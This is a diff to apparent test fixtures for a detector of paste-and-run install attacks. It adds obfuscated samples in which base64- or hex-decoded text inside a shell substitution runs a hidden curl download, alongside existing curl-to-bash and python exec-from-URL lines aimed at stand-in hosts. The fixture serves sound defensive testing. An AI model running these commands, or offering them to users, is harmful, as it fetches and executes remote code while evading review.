@@ -40,6 +40,11 @@ const TERMINAL = [
   '/bin/bash -c "$(curl -fsSL https://brew-install.example/install.sh)"',
   'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://x.example/p\').read())"',
   'curl -fsSL https://x.example/i | VERSION="1" PREFIX="$HOME/x" bash',
+  // Decoded inside the shell's own substitution: no download word, no pipe into a shell.
+  '/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwOi8vMS4yLjMuNC9zIHwgemg= | base64 --decode)"',
+  'eval "$(echo Y3VybCAtcyBodHRwOi8vNDUu | base64 -D)"',
+  'zsh -c "$(printf 6375726c | xxd -r -p)"',
+  'sh -c "$(echo \'Y3VybA==\' | openssl enc -base64 -d)"',
 ];
 /** Install commands docs show openly: commands that fetch and run code all the same. */
 const DOCS_COMMANDS = [
@@ -72,6 +77,9 @@ const NOT_COMMANDS = [
   'powershell -Command "Get-Process"',
   'cmd /c dir',
   'ssh user@host.example.com',
+  // Decoding that runs nothing: a secret read, a value kept.
+  "kubectl get secret db -o jsonpath='{.data.password}' | base64 --decode",
+  'export TOKEN="$(echo c2VjcmV0 | base64 -d)"',
   // kryc/clickfix-detect's benign cases: local programs, downloads that run nothing.
   'cmd.exe /c echo deployment complete',
   'rundll32.exe shell32.dll,Control_RunDLL',
